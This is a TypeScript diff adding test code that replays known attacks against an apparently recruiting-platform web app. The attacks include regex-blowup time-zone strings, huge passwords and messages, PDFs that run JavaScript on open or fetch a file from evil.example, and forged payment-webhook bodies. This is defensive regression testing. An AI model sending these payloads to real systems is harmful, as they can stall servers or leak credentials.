@@ -1,0 +1,56 @@
+import { pageWith } from "../../support/mint/hostile-pdfs";
+import { aRecruiterForm } from "../../support/mint/sign-ups";
+import { costlyFiles } from "./costly-files";
+import { type Fields, formOf, formOfAct, type Sent } from "./forms-of-acts";
+import type { Act } from "./generated-body";
+
+/** Names of time zones that were once read in exponential time. */
+export const zones = ["A/A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A+A/", `A/${"A+".repeat(60)}/`];
+
+type Attack = Sent & { what: string };
+type Cookies = Record<"player" | "recruiter" | "admin", string>;
+
+/** PDF files with actions that run when they are opened. */
+const active = [
+  pageWith({ catalog: "/OpenAction<</S/Rendition/JS(app.alert(1))>>" }),
+  pageWith({ catalog: "/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>" }),
+];
+
+/** Single requests that once stopped the server for seconds or for good, filled its memory, or were believed. */
+export function knownAttacks(acts: readonly Act[], cookies: Cookies): Attack[] {
+  const form = (name: string, fields: Record<string, unknown>, cookie = "") => {
+    const act = acts.find((one) => one.name === name);
+    if (!act) throw new Error(`no act ${name}`);
+    const list: Fields = Object.entries(fields);
+    return { what: `${name}: ${Object.keys(fields).join()}`, ...formOfAct(act, list, cookie) };
+  };
+  const [player, admin] = [cookies.player, cookies.admin];
+  const club = { ...aRecruiterForm(), identity: "", organizationProof: "" };
+  return [
+    form("signUp", { email: "a@test.recruit", password: `${"!".repeat(100_000)}a` }),
+    form("signUpRecruiter", { ...club, websiteUrl: `${".".repeat(100_000)}@` }),
+    ...costlyFiles().map((paper) => form("signUpRecruiter", { ...club, identity: paper, organizationProof: paper })),
+    ...[...costlyFiles(), ...active].map((file) => form("stageFile", { kind: "shared", file }, player)),
+    ...[...zones, `A/${"A+".repeat(3_000)}/`].flatMap((zone) => [
+      ...["/api/bell", "/dashboard", "/events", "/en/about"].map((path) => ({
+        what: `${path}, a zone of ${zone.length} letters`,
+        path,
+        method: "GET",
+        headers: { cookie: `${player}; zone=${zone}` },
+      })),
+      form("saveSettings", { zone }, player),
+      form("createEvent", { timeZone: zone }, cookies.recruiter),
+      form("publishArticle", { id: crypto.randomUUID(), zone }, admin),
+    ]),
+    form("requestContact", { playerId: crypto.randomUUID(), message: "㌖".repeat(4_000) }, cookies.recruiter),
+    form("applyForJob", { jobId: crypto.randomUUID(), message: "㌖".repeat(2_000) }, player),
+    form("sendMessage", { threadId: crypto.randomUUID(), content: "㌖".repeat(4_000) }, player),
+    { what: "texts of 15 MB", path: "/contact", ...formOf(Array(1_500).fill(["a", "a".repeat(10_000)])) },
+    ...["null", '{"created":1e20}'].map((text) => ({
+      what: `an event of the payment provider: ${text}`,
+      path: "/api/stripe/webhook",
+      headers: { "content-type": "application/json", "stripe-signature": "t=1,v1=00" },
+      body: Buffer.from(text),
+    })),
+  ];
+}
